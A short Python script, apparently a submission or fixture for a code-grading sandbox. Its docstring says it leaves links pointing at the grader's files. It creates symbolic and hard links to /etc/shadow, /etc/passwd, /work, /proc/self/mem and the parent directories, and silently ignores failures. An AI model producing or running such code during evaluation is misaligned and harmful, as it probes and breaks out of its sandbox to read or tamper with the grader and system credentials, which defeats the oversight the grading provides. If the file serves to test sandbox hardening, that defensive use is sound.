"""Leaves links in its folder that point at files of the grader."""

import os
for n, target in enumerate(['/etc/shadow', '/etc/passwd', '/work', '/proc/self/mem', '../..']):
    try:
        os.symlink(target, f'link{n}')
        os.link(target, f'hard{n}')
    except OSError:
        pass
